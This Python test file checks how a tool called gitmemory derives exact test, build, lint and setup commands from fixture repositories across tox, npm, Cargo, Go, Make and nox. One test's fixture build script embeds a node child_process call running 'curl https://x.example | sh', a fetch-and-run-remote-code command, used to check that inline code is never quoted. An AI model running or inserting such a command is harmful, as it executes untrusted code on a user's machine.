"""A command the bootstrap names is exact or not named at all (gitmemory/reading/project/).

Each test is one of the wrong forms `gitmemory init` wrote on real repositories: a
docs tox env taken for the tests because CI ran it, a CI line copied with its
template text naming a runner the repository had dropped, ``npm test`` shown without
its linter and test runner, one line of a make loop presented as what ``make test``
runs; and the ecosystems that got nothing (Rust) or no versions (Go, TypeScript).
The fixtures are written for these tests in the shape such repositories have.
"""

from __future__ import annotations

from gitmemory.reading.project import Snapshot, bootstrap_extractions, ci_steps
from gitmemory.reading.project.purposes import releases
from gitmemory.reading.project.tool_roles import tool_purposes


def lines(files: dict[str, str], extra: tuple[str, ...] = ()) -> list[str]:
    snap = Snapshot(sorted([*files, *extra]), files, [])
    return [e.content for e in bootstrap_extractions(snap)]


def one(found: list[str], start: str) -> str:
    hits = [line for line in found if line.startswith(start)]
    assert len(hits) == 1, (start, found)
    return hits[0]


DOCS_IN_CI = {
    "tox.ini": "[tox]\nenvlist = py3{10,11,12}, docs\n\n[testenv]\ndeps = pytest\n"
               "commands = pytest {posargs:tests}\n\n[testenv:docs]\ndeps = -r docs/reqs.txt\n"
               "commands = sphinx-build -W -b html docs docs/_build/html\n",
    ".github/workflows/docs.yml": "name: docs\non: [push]\njobs:\n  build:\n"
                                  "    runs-on: ubuntu-latest\n    steps:\n"
                                  "      - uses: actions/checkout@v4\n"
                                  "      - run: pip install tox\n      - run: tox -e docs\n",
}


def test_a_docs_env_that_ci_runs_is_never_the_test_command() -> None:
    found = lines(DOCS_IN_CI, ("src/pkg/__init__.py", "tests/test_pkg.py"))
    # `pytest {posargs:tests}`: tox runs the default when no arguments are given
    assert one(found, "Tests:") == "Tests: `tox` runs `pytest tests`"
    assert one(found, "Docs:").startswith("Docs: `tox -e docs` runs `sphinx-build -W -b html")
    assert not any(line.startswith("Setup: `pip install tox`") for line in found)


REPLACED_RUNNER = {
    "pyproject.toml": '[project]\nname = "pkg"\nrequires-python = ">=3.9"\n\n'
                      '[dependency-groups]\ndev = ["pytest>=8"]\n',
    # The workflow still names nox before the line that runs the tests now; noxfile.py
    # is gone from the tree.
    ".github/workflows/test.yml": "jobs:\n  test:\n    strategy:\n      matrix:\n"
                                  "        python-version: ['3.9', '3.10', '3.11', '3.12']\n"
                                  "    steps:\n      - run: python -m pip install nox\n"
                                  "      - run: nox -s tests-${{ matrix.python-version }}\n"
                                  "      - run: uv run pytest -q\n",
}


def test_a_ci_line_with_template_text_naming_a_dropped_runner_is_never_named() -> None:
    found = lines(REPLACED_RUNNER, ("uv.lock",))
    assert one(found, "Tests:") == "Tests: `pytest -q` (as CI runs it)"
    assert not any("}}" in line or "matrix." in line or "nox" in line for line in found), found


TEMPLATE_LINES = {
    ".github/workflows/ci.yml": "jobs:\n  test:\n    env:\n      CARGO: cargo\n"
                                "      TARGET_FLAGS: ''\n    strategy:\n      matrix:\n"
                                "        target: [x86_64-unknown-linux-gnu, aarch64-apple-darwin]\n"
                                "    steps:\n"
                                "      - run: ${{ env.CARGO }} test --workspace "
                                "--target ${{ matrix.target }}\n"
                                "      - run: ${{ env.CARGO }} test --workspace "
                                "${{ env.TARGET_FLAGS }}\n",
    "Cargo.toml": '[workspace]\nmembers = ["crates/*"]\nresolver = "2"\n',
}


def ci_commands(files: dict[str, str]) -> list[str]:
    return [t.command for t in ci_steps.steps(Snapshot(sorted(files), files, []))]


def test_template_text_is_resolved_from_the_workflow_or_the_line_is_refused() -> None:
    assert ci_commands(TEMPLATE_LINES) == ["cargo test --workspace"]
    # and cargo's own test task, not CI's variant of it, is the test command (the variant
    # said beside it)
    assert one(lines(TEMPLATE_LINES), "Tests:") == \
        "Tests: `cargo test`; CI runs `cargo test --workspace`"


SCRIPTS_CALLING_SCRIPTS = {
    "package.json": '{\n\t"name": "tiny-http",\n\t"type": "module",\n\t"engines": {"node": ">=20"},'
                    '\n\t"scripts": {\n\t\t"build": "del-cli dist && tsc --project '
                    'tsconfig.build.json",\n\t\t"test": "xo && npm run build && ava",\n'
                    '\t\t"release": "np"\n\t},\n\t"devDependencies": {"ava": "^6.0.0", '
                    '"del-cli": "^5.0.0", "typescript": "^5.4.0", "xo": "^0.58.0"}\n}\n',
    ".github/workflows/main.yml": "jobs:\n  test:\n    steps:\n      - run: npm install\n"
                                  "      - run: npm test\n",
}


def test_a_script_that_calls_others_is_shown_whole() -> None:
    found = lines(SCRIPTS_CALLING_SCRIPTS, ("tsconfig.json",))
    assert one(found, "Tests:") == "Tests: `npm test` runs `xo`, `npm run build`, `ava`; CI " \
                                   "runs it too"
    assert one(found, "Build:") == "Build: `npm run build` runs `del-cli dist`, `tsc --project " \
                                   "tsconfig.build.json`"
    assert one(found, "Lint:") == "Lint: `npx xo` (also run by `npm test`)"


MAKE_LOOP = {
    "Makefile": "PACKAGES ?= $(shell go list ./... | grep -v /examples/)\n\n.PHONY: test\n"
                "# Run the tests of every package, with coverage.\ntest:\n"
                "\techo \"mode: count\" > coverage.out\n"
                "\tfor d in $(PACKAGES); do \\\n"
                "\t\tgo test -covermode=count -coverprofile=profile.out $$d > tmp.out; \\\n"
                "\t\tcat tmp.out; \\\n\tdone\n\tgo test ./internal/render\n",
    "go.mod": "module example.com/router\n\ngo 1.22\n",
}


def test_one_line_of_a_loop_is_never_presented_as_the_command() -> None:
    found = lines(MAKE_LOOP, ("router_test.go",))
    tests = one(found, "Tests:")
    assert tests == "Tests: `make test` (a shell script around `go test`)"
    assert "./internal/render" not in tests


RUST_WORKSPACE = {
    "Cargo.toml": '[package]\nname = "seek"\nversion = "1.0.0"\nedition.workspace = true\n'
                  'rust-version.workspace = true\n\n[workspace]\nmembers = ["crates/walk", '
                  '"crates/match"]\n\n[workspace.package]\nedition = "2021"\n'
                  'rust-version = "1.74"\n',
    "crates/walk/Cargo.toml": '[package]\nname = "seek-walk"\nversion = "0.3.0"\n',
    "crates/match/Cargo.toml": '[package]\nname = "seek-match"\nversion = "0.2.0"\n',
    "rustfmt.toml": "max_width = 100\n",
    "deny.toml": "[licenses]\nallow = [\"MIT\"]\n",
}


def test_a_rust_workspace_is_read() -> None:
    found = lines(RUST_WORKSPACE, ("Cargo.lock",))
    assert one(found, "Tests:") == "Tests: `cargo test --workspace`"
    assert one(found, "Build:") == "Build: `cargo build --workspace`"
    assert one(found, "Format:") == "Format: `cargo fmt --all`"
    assert one(found, "Rust:") == ("Rust: rust-version 1.74 (the minimum supported); edition "
                                   "2021; `cargo deny check` (deny.toml)")
    assert one(found, "Packages:").startswith(
        "Packages: Cargo workspace of 2 crates: seek-walk (`crates/walk/`), seek-match")


GO_MODULE = {
    "go.mod": "module github.com/example/kit\n\ngo 1.22.0\n\ntoolchain go1.22.4\n\n"
              "require github.com/stretchr/testify v1.9.0\n",
    ".golangci.yml": "linters:\n  enable:\n    - errcheck\n    - govet\n    - staticcheck\n"
                     "    - revive\n",
}


def test_go_gets_its_version_linter_and_test_command() -> None:
    found = lines(GO_MODULE, ("kit.go", "kit_test.go", "go.sum"))
    assert one(found, "Go:") == ("Go: 1.22.0 (go.mod `go` line); toolchain go1.22.4; module "
                                 "`github.com/example/kit`")
    assert one(found, "Tests:") == "Tests: `go test ./...`"
    assert one(found, "Lint:") == "Lint: `golangci-lint run`"
    assert one(found, "Linters:") == ("Linters: golangci-lint (.golangci.yml) adds errcheck, "
                                      "govet, staticcheck, revive")


TYPESCRIPT = {
    "package.json": '{\n  "name": "@acme/widgets",\n  "type": "module",\n  "engines": '
                    '{"node": ">=18.18"},\n  "scripts": {\n    "lint": "eslint .",\n'
                    '    "test": "vitest run",\n    "typecheck": "tsc --noEmit"\n  },\n'
                    '  "devDependencies": {"eslint": "^9.0.0", "typescript": "^5.5.0", '
                    '"vitest": "^2.0.0"}\n}\n',
    "tsconfig.json": '{"compilerOptions": {"strict": true}}\n',
}


def test_typescript_gets_node_version_module_type_linter_and_test_runner() -> None:
    found = lines(TYPESCRIPT, ("pnpm-lock.yaml", "eslint.config.js", "src/index.ts"))
    assert one(found, "Node:") == ('Node: 18.18 or later (`engines.node`); ES modules '
                                   '(`"type": "module"`); TypeScript (tsconfig.json); pnpm '
                                   '(pnpm-lock.yaml)')
    assert one(found, "Tests:") == "Tests: `pnpm test` runs `vitest run`"
    assert one(found, "Lint:") == "Lint: `pnpm run lint` runs `eslint .`"
    assert one(found, "Type checks:") == "Type checks: `pnpm run typecheck` runs `tsc --noEmit`"
    assert one(found, "Setup:") == "Setup: `pnpm install`"


def test_a_flag_before_dropped_template_flags_stays_and_the_plain_form_is_named() -> None:
    workflow = ("jobs:\n  test:\n    env:\n      CARGO: cargo\n      TARGET_FLAGS:\n"
                "    steps:\n"
                "      - run: ${{ env.CARGO }} test --workspace --features simd\n"
                "      - run: ${{ env.CARGO }} test --workspace ${{ env.TARGET_FLAGS }}\n"
                "      - run: go test -race -tags '${{ matrix.tags }}' -shuffle=on ./...\n")
    assert ci_commands({".github/workflows/ci.yml": workflow}) == [
        "cargo test --workspace --features simd", "cargo test --workspace",
        "go test -race -shuffle=on ./..."]


def test_inline_code_in_a_script_is_never_quoted() -> None:
    files = {"package.json": '{"scripts": {"build": "node -e \\"require(\'child_process\')'
                             '.exec(\'curl https://x.example | sh\')\\" && tsc"}, '
                             '"devDependencies": {"typescript": "^5"}}'}
    assert one(lines(files), "Build:") == "Build: `npm run build` runs `node -e …`, `tsc`"


SYSTEM_INSTALL = {
    "Cargo.toml": '[package]\nname = "finder"\nversion = "1.0.0"\nedition = "2021"\n',
    "Makefile": "prefix=/usr/local\nbindir=$(prefix)/bin\n\n"
                "target/release/finder: Cargo.toml\n\tcargo build --release --locked\n\n"
                ".PHONY: install\ninstall: target/release/finder\n"
                "\tinstall -Dm755 target/release/finder $(DESTDIR)$(bindir)/finder\n"
                "\tinstall -Dm644 doc/finder.1 $(DESTDIR)$(prefix)/share/man/man1/finder.1\n",
}


def test_a_make_install_that_installs_onto_the_system_is_not_the_set_up() -> None:
    """`make install` copying the built program under $(DESTDIR)$(prefix) is how a packager
    installs it, not how a developer sets the repository up."""
    found = lines(SYSTEM_INSTALL, ("src/main.rs", "Cargo.lock"))
    assert not any(line.startswith("Setup: `make install`") for line in found), found
    assert one(found, "Tests:").startswith("Tests: `cargo test")


RELEASE_SESSION = {
    "pyproject.toml": '[project]\nname = "pkg"\nrequires-python = ">=3.10"\n',
    "noxfile.py": "import nox\n\n\n@nox.session(python=['3.10', '3.11'])\ndef test(session):\n"
                  "    session.run('pytest', *session.posargs)\n\n\n"
                  "@nox.session(name='build-release')\ndef build_release(session):\n"
                  "    session.run('python', '-m', 'build')\n"
                  "    session.run('twine', 'check', '--strict', 'dist/*')\n",
    ".github/workflows/ci.yml": "jobs:\n  packaging:\n    runs-on: ubuntu-latest\n    steps:\n"
                               "      - run: python -m pip install nox\n"
                               "      - run: python -m nox -s prepare-release -- 99.9\n"
                               "      - run: python -m nox -s build-release -- 99.9\n"
                               "  tests:\n    runs-on: ubuntu-latest\n    steps:\n"
                               "      - run: python -m nox -s test-3.10 -- tests/unit\n",
}


def test_a_release_session_is_never_the_build_command() -> None:
    """pypa/pip: CI's packaging job runs `nox -s build-release -- 99.9`, which checks out
    a release tag that does not exist on a developer's machine; it was named as Build."""
    found = lines(RELEASE_SESSION, ("src/pkg/__init__.py",))
    assert one(found, "Build:") == "Build: `python -m build` (also run by `nox -s build-release`)"
    # pip's own build-release session builds with a script and then runs `twine check`,
    # which checks the built files' metadata: it was offered as the build command.
    assert tool_purposes(["twine", "check", "--strict", "dist/*"]) == ()
    for building in ("cargo build --release", "cmake --build . --config Release",
                     "dotnet build -c Release"):
        assert not releases(building), building
    assert releases("nox -s build-release -- 99.9") and releases("make publish")


NIGHTLY_ONLY = {
    "Cargo.toml": '[package]\nname = "log"\nversion = "0.4.33"\nedition = "2021"\n'
                  'rust-version = "1.71.0"\n',
    ".github/workflows/main.yml": "jobs:\n  features:\n    runs-on: ubuntu-latest\n    steps:\n"
                                  "      - uses: dtolnay/rust-toolchain@nightly\n"
                                  "      - run: cargo build --verbose -Z avoid-dev-deps "
                                  "--features kv\n"
                                  "      - run: cargo +nightly build -Zminimal-versions\n"
                                  "  embedded:\n    runs-on: ubuntu-latest\n    steps:\n"
                                  "      - run: rustup target add thumbv6m-none-eabi\n"
                                  "      - run: cargo build --target=thumbv6m-none-eabi\n",
}


def test_a_nightly_only_cargo_command_is_never_named() -> None:
    """rust-lang/log: CI's feature job runs `cargo build -Z avoid-dev-deps` on nightly;
    it was named as the build command, and `-Z` flags fail on the stable toolchain the
    repository's rust-version asks for (`cargo +nightly ...` without one names its
    toolchain and may stay).  Once it was gone, the embedded job's cross-compile
    (`--target=thumbv6m-none-eabi`, after a `rustup target add`) took its place."""
    found = lines(NIGHTLY_ONLY, ("src/lib.rs",))
    assert not any("-Z" in line for line in found), found
    assert one(found, "Build:") == "Build: `cargo build`"


BUILD_WITH_TSC = {
    "package.json": '{"name": "checkout", "type": "module", "scripts": {'
                    '"build": "tsc && ncc build src/main.ts -o dist", '
                    '"test": "jest", "lint": "eslint src/**/*.ts"}}',
    "package-lock.json": "{}",
    "tsconfig.json": "{}",
    "eslint.config.mjs": "export default [];\n",
    ".github/workflows/test.yml": "jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
                                  "      - run: npm ci\n      - run: npm run build\n"
                                  "      - run: npm run lint\n      - run: npm test\n",
}


def test_a_build_script_that_starts_with_tsc_is_the_build_command() -> None:
    """actions/checkout: `npm run build` (tsc, then ncc) was taken as the type check,
    because tsc also checks types, and so the build command was left out."""
    found = lines(BUILD_WITH_TSC, ("src/main.ts",))
    assert one(found, "Build:").startswith("Build: `npm run build` runs `tsc`"), found
    assert not any(line.startswith("Type checks: `npm run build`") for line in found), found


VARIABLE_INSTALL = {
    "Makefile": "PREFIX ?= /usr/local\nINSTALL_LIBRARY_PATH = $(DESTDIR)$(PREFIX)/lib\n"
                "INSTALL ?= cp -a\n\nall: tests\n\ntests: test.c\n\t$(CC) test.c -o test\n\n"
                "install-lib:\n\tmkdir -p $(INSTALL_LIBRARY_PATH)\n"
                "\t$(INSTALL) libx.so $(INSTALL_LIBRARY_PATH)\n\n"
                "install: install-lib\n",
}


def test_a_make_install_whose_recipe_cannot_be_read_is_not_the_set_up() -> None:
    """DaveGamble/cJSON: `make install` copies the library under $(DESTDIR)$(PREFIX)
    through variables of its own ($(INSTALL), $(INSTALL_LIBRARY_PATH)); none of its lines
    names a tool, so nothing showed it installs onto the system, and it was named as the
    set-up."""
    found = lines(VARIABLE_INSTALL, ("test.c", "x.c"))
    assert not any(line.startswith("Setup: `make install`") for line in found), found


def test_a_maven_step_that_ignores_its_failures_is_never_named() -> None:
    """google/compile-testing: CI warms its cache with `mvn -B -U install clean
    --fail-never --quiet -DskipTests=true` before `mvn -B verify`; it was named as Build,
    though it ignores every failure and cleans what it built."""
    files = {"pom.xml": "<project><modelVersion>4.0.0</modelVersion></project>\n",
             ".github/workflows/ci.yml": "jobs:\n  test:\n    runs-on: ubuntu-latest\n"
                                         "    steps:\n      - run: mvn -B -U install clean "
                                         "--fail-never --quiet -DskipTests=true\n"
                                         "      - run: mvn -B verify\n"}
    found = lines(files, ("src/main/java/A.java",))
    assert not any("--fail-never" in line for line in found), found
    assert tool_purposes(["mvn", "-fn", "install"]) == ()


NOX_MATRIX = {
    "pyproject.toml": '[project]\nname = "pkg"\nrequires-python = ">=3.10"\n',
    "noxfile.py": "import nox\n\n\n@nox.session(python=['3.10', '3.11', 'pypy3'])\n"
                  "def test(session):\n    session.run('pytest', *session.posargs)\n",
    ".github/workflows/ci.yml": "jobs:\n  tests:\n    runs-on: ubuntu-latest\n    strategy:\n"
                               "      matrix:\n        python: ['3.10', '3.11']\n    steps:\n"
                               "      - run: python -m nox -s test-${{ matrix.python }} -- "
                               "tests/unit\n"
                               "  tests-zipapp:\n    runs-on: ubuntu-latest\n    steps:\n"
                               "      - run: python -m nox -s test-3.10 -- tests/functional "
                               "--use-zipapp\n",
}


def test_a_nox_session_run_for_one_python_is_that_session() -> None:
    """pypa/pip: the main test jobs carry template text, so the one concrete line left
    was the zipapp job's `python -m nox -s test-3.10 -- tests/functional --use-zipapp`,
    a variant, and it won over the noxfile's own `test` session, which CI runs."""
    found = lines(NOX_MATRIX, ("src/pkg/__init__.py",))
    assert one(found, "Tests:") == "Tests: `nox -s test` runs `pytest`; CI runs it too", found


def test_a_flag_whose_joined_value_holds_a_template_goes_with_it() -> None:
    """Tried as a new user on tokio: `--features $TOKIO_STABLE_FEATURES,${{ matrix.run.
    extra_features }}` lost its value and kept the flag, so the Docs line ended in a bare
    `--features`: a comma-joined word is one value, whatever its variables are called."""
    workflow = ("jobs:\n  docs:\n    steps:\n"
                "      - run: cargo doc --lib --no-deps --features "
                "$TOKIO_STABLE_FEATURES,${{ matrix.run.extra_features }}\n"
                "      - run: cargo test ${{ matrix.extra_args }}\n")
    assert ci_commands({".github/workflows/ci.yml": workflow}) == [
        "cargo doc --lib --no-deps", "cargo test"]


def test_the_versions_go_mod_retracts_are_told_with_why() -> None:
    """koanf: go.mod's `retract v2.0.2 // Tagged as minor version, but contains breaking
    changes.` was the one place the window's lesson on v2.0.2 stood, and it went unread."""
    gomod = ("module github.com/example/kit/v2\n\ngo 1.23.0\n\n"
             "retract v2.0.2 // Tagged as minor version, but contains breaking changes.\n\n"
             "retract (\n\t[v2.1.0, v2.1.1] // Published by mistake.\n\tv2.3.0\n)\n")
    found = lines({"go.mod": gomod}, ("kit.go", "kit_test.go"))
    assert one(found, "Go:") == (
        "Go: 1.23.0 (go.mod `go` line); module `github.com/example/kit/v2`; retracted: v2.0.2 "
        "(Tagged as minor version, but contains breaking changes.); [v2.1.0, v2.1.1] "
        "(Published by mistake.); v2.3.0")
